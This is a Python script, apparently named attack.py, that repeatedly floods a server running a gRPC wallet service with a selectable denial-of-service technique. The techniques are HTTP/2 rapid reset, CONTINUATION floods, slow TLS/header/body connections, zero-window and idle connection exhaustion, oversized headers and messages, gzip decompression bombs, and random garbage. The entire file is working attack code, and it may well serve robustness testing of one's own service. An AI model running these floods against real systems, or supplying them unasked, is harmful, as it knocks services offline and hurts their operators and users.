"""Attacks the server at HOST:PORT until it is killed: python attack.py NAME HOST:PORT COUNT. Prints a line for each round."""

import gzip
import os
import resource
import socket
import struct
import sys
import time

name, address, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
host, port = address.rsplit(":", 1)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A text of HPACK without compression."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, more = len(value) - 127, b""
    while rest >= 128:
        more, rest = more + bytes([rest % 128 + 128]), rest // 128
    return bytes([127]) + more + bytes([rest]) + value


def fields(path, *others):
    named = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
    named += [(b"content-type", b"application/grpc"), (b"te", b"trailers"), *others]
    return b"".join(b"\0" + text(key) + text(value) for key, value in named)


def connect():
    return socket.create_connection((host, int(port)), timeout=30)


def http2(window=65535):
    peer = connect()
    send(peer, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + frame(SETTINGS, 1, 0))
    return peer


def send(peer, data):
    """Returns whether the server still takes bytes."""
    try:
        peer.sendall(data)
        return True
    except OSError:
        return False


def call(peer, stream, path, message, flag=0, *others):
    body = bytes([flag]) + struct.pack(">I", len(message)) + message
    frames = [frame(DATA, 0, stream, body[at : at + 16384]) for at in range(0, len(body), 16384)]
    begin = frame(HEADERS, 4, stream, fields(path, *others))
    return send(peer, begin + b"".join(frames) + frame(DATA, 1, stream))


def drain(peer):
    """Reads what the server answers at once."""
    peer.settimeout(0.2)
    try:
        while peer.recv(65536):
            pass
    except OSError:
        pass
    peer.close()


def rapid_reset():
    peer = http2()
    for stream in range(1, 2 * count, 2):
        begun = frame(HEADERS, 4, stream, fields(b"/wallet.v1.WalletService/GetBalance"))
        if not send(peer, begun + frame(RESET, 0, stream, struct.pack(">I", 8))):
            break
    drain(peer)


def continuation_flood():
    peer = http2()
    send(peer, frame(HEADERS, 0, 1, fields(b"/wallet.v1.WalletService/GetBalance")))
    for _ in range(count):
        if not send(peer, frame(CONTINUATION, 0, 1, b"\0" + text(b"x-more") + text(b"y" * 10_000))):
            break
    drain(peer)


def slowly(begin, more, close):
    """Opens connections that begin at once and then go on byte by byte."""
    peers = [connect() for _ in range(count)]
    for peer in peers:
        send(peer, begin)
    for _ in range(3):
        time.sleep(0.1)
        for peer in peers:
            send(peer, more)
    if close:
        for peer in peers:
            peer.close()
    return peers


held = []


def slow_handshake():
    held.extend(slowly(b"\x16\x03\x01\x02\x00\x01", b"\0", False))


def slow_headers():
    held.extend(slowly(b"POST /wallet.v1.WalletService/GetBalance HTTP/1.1\r\nx: ", b"y", False))


def slow_body():
    head = b"POST /wallet.v1.WalletService/GetBalance HTTP/1.1\r\ncontent-type: application/json\r\n"
    held.extend(slowly(head + b"content-length: 1000\r\n\r\n{", b" ", False))


def zero_windows():
    peer = http2(window=0)
    for stream in range(1, 2 * count, 2):
        if not call(peer, stream, b"/wallet.v1.CatalogService/GetCatalog", b""):
            break
    held.append(peer)


def idle_connections():
    while len(held) < count:
        try:
            held.append(http2())
        except OSError:
            # The server has as many connections as it takes.
            break


def oversized():
    peer = http2()
    begin = fields(b"/wallet.v1.WalletService/GetBalance", (b"x-long", b"y" * 15_000), (b"x-longer", b"y" * 15_000))
    send(peer, frame(HEADERS, 0, 1, begin[:16384]) + frame(CONTINUATION, 4, 1, begin[16384:]))
    drain(peer)
    peer = http2()
    endless = b"\0" + struct.pack(">I", 1 << 30) + b"x" * 16_000
    send(peer, frame(HEADERS, 4, 1, fields(b"/wallet.v1.WalletService/Reserve")) + frame(DATA, 0, 1, endless))
    for _ in range(count):
        if not send(peer, frame(DATA, 0, 1, b"x" * 16_000)):
            break
    drain(peer)
    peer = http2()
    # As many empty items as fit into the largest message.
    call(peer, 1, b"/wallet.v1.WalletService/EstimateMany", b"\x12\0" * 30_000)
    call(peer, 3, b"/wallet.v1.WalletService/ReserveMany", b"\x0a\0" * 30_000)
    drain(peer)


bomb = gzip.compress(bytes(64 << 20))


def bombs():
    peer = http2()
    for stream in range(1, 2 * count, 2):
        if not call(peer, stream, b"/wallet.v1.WalletService/Reserve", bomb, 1, (b"grpc-encoding", b"gzip")):
            break
    drain(peer)


def garbage():
    for begin in [b"", PREFACE, b"POST / HTTP/1.1\r\n", b"\x16\x03\x01"]:
        for _ in range(count):
            peer = connect()
            send(peer, begin + os.urandom(4096))
            peer.close()


descriptors = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors[1], descriptors[1]))
while True:
    globals()[name]()
    print(len(held), flush=True)
    if held:
        # The connections of the last round are still open, and a thousand more do not show more.
        time.sleep(0.5)
        while len(held) > 4 * count:
            held.pop(0).close()
